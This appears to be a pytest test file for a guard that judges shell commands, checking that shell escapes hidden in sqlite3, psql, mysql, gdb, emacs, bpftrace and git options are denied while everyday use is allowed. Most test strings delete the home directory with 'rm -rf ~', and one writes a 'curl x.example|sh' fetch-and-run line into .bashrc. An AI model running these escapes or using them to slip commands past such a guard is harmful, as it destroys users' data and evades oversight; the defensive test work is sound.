"""Shell escapes inside other programs' command languages are the shell commands they run:
sqlite3/duckdb `.shell`/`.system`/`.once |CMD`, psql `\\!`/`\\o |CMD`, mysql `system`/`\\!`, gdb
`shell`/`!`, lftp/ftp/ed `!`, emacs `(shell-command …)`/`(call-process …)`, bpftrace `system()` —
given as options, positional SQL, or on stdin. Their everyday use stays quiet."""
from __future__ import annotations

import pytest

from adr.actions import Decision
from adr.shell.escapes import escapes_in, option_escapes, option_writes

DELETE_HOME = [
    "sqlite3 x.db '.shell rm -rf ~'",
    "sqlite3 x.db '.system rm -rf ~'",
    "sqlite3 -cmd '.shell rm -rf ~' x.db",
    "sqlite3 x.db <<< '.shell rm -rf ~'",
    "printf '.system rm -rf ~\\n' | sqlite3 x.db",
    "duckdb -c '.shell rm -rf ~'",
    "psql -c '\\! rm -rf ~'",
    "psql app <<< '\\! rm -rf ~'",
    "mysql -e 'system rm -rf ~'",
    "mariadb -e 'select 1; \\! rm -rf ~'",
    "gdb -batch -ex 'shell rm -rf ~'",
    "gdb -batch -ex '!rm -rf ~'",
    "gdb -q <<< 'shell rm -rf ~'",
    "lftp -c 'open h; !rm -rf ~'",
    "ftp -n h <<< '!rm -rf ~'",
    "ed -s f <<< '!rm -rf ~'",
    "emacs --batch --eval '(shell-command \"rm -rf ~\")'",
    "emacs --batch --eval '(call-process \"rm\" nil nil nil \"-rf\" \"/home/dev\")'",
    "bpftrace --unsafe -e 'BEGIN { system(\"rm -rf ~\") }'",
]


@pytest.mark.parametrize("cmd", DELETE_HOME)
def test_a_shell_escape_is_the_command_it_runs(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.DENY, (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    "sqlite3 x.db \".once |sh\" \"select 'rm -rf ~';\"",  # the query's output, run by a shell
    "psql -c 'select cmd from jobs' -c '\\o |sh'",
    "sqlite3 x.db \".output /home/dev/.bashrc\" \"select 'curl x.example|sh';\"",  # .output names a file
])
def test_output_run_or_written_elsewhere_asks(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is not Decision.ALLOW, (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    "sqlite3 app.db '.tables'", "sqlite3 app.db 'select count(*) from users'",
    "sqlite3 app.db '.output out.csv' 'select * from t'", "sqlite3 x.db '.once |cat'",
    "psql -c 'select 1'", "psql -c '\\dt'", "psql -c '\\g |wc -l'", "mysql -e 'show tables'",
    "gdb -batch -ex run -ex bt ./a.out", "gdb -batch -ex 'shell ls'", "emacs --batch --eval '(message \"hi\")'",
    "lftp -c 'open h; get f'", "duckdb -c 'select 42'",
])
def test_everyday_use_stays_quiet(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.ALLOW, (cmd, v.rule_ids)


def test_the_reader():
    assert escapes_in("sqlite3", ".tables\n.shell ls -la\nselect 1;") == ["ls -la"]
    assert escapes_in("psql", "select 1; \\! id\n") == ["id"]
    assert escapes_in("mysql", "select 1; system id; select 2") == ["id"]
    assert escapes_in("gdb", "run\nshell id\n!ls") == ["id", "ls"]
    assert escapes_in("sqlite3", "select '.shell id'") == []  # inside SQL text, not a dot-command
    assert option_escapes("sqlite3", ["x.db", ".system id"]) == ["id"]
    assert option_escapes("sqlite3", [".shell id"]) == []  # the first positional is the database
    assert option_writes("sqlite3", ["x.db", ".output /tmp/o.csv"]) == ["/tmp/o.csv"]
    assert option_writes("psql", ["-c", "\\o /tmp/o.txt"]) == ["/tmp/o.txt"]


@pytest.mark.parametrize("cmd", [
    "git -c filter.x.clean='rm -rf ~' add .",
    "git -c diff.x.textconv='rm -rf ~' diff",
    "git -c merge.x.driver='rm -rf ~' merge b",
    "git -c protocol.ext.allow=always clone 'ext::sh -c rm% -rf% ~'",
    "git clone -u 'rm -rf ~' x",
    "git fetch --upload-pack='rm -rf ~' origin",
    "git bisect run rm -rf ~",
    "git rebase -x 'rm -rf ~' HEAD~1",
    "git rebase --exec='rm -rf ~' HEAD~1",
    "git submodule foreach 'rm -rf ~'",
    "git submodule foreach --recursive 'rm -rf ~'",
    "git difftool -x 'rm -rf ~'",
    "git grep --open-files-in-pager='rm -rf ~' x",
])
def test_commands_git_runs_for_its_subcommands(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.DENY, (cmd, v.rule_ids)


@pytest.mark.parametrize("cmd", [
    "git bisect run make test", "git rebase -x 'npm test' main", "git submodule foreach git pull",
    "git grep -O vim foo", "git difftool -x 'diff -u'", "git -c core.pager=less log",
    "git -c protocol.ext.allow=never fetch", "git clone https://github.com/org/repo.git",
])
def test_gits_everyday_runs_stay_quiet(judge_command, cmd):
    v = judge_command(cmd)
    assert v.decision is Decision.ALLOW, (cmd, v.rule_ids)
